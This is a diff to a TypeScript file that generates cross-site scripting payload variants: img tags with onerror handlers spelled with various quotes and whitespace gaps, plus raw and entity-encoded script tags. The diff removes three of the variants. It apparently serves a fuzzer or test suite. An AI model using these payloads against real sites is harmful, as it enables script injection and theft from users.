@@ -124,7 +124,7 @@ const handlers = (address: string) => [
 ]
 
 const spellings = () => {
-  const quoted = ["", '"', "'", "`"].map((quote) => `<img src=x onerror=${quote}${RUN}${quote}>`)
+  const quoted = ['"', "'", "`"].map((quote) => `<img src=x onerror=${quote}${RUN}${quote}>`)
   const gaps = ["/", "\t", "\n", "\f", "//", " / ", "\u00a0", "/x/"].map(
     (gap) => `<img${gap}src=x${gap}onerror=${RUN}>`,
   )
@@ -148,8 +148,6 @@ const spellings = () => {
     `<img """><script>${RUN}</script>">`,
     `<img src=x:x onerror\u0000=${RUN}>`,
     `< script>${RUN}</ script>`,
-    `</script><script>${RUN}</script>`,
-    `\u003cscript\u003e${RUN}\u003c/script\u003e`,
     `&lt;script&gt;${RUN}&lt;/script&gt;`,
     `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
     `&#60;script&#62;${RUN}&#60;/script&#62;`,
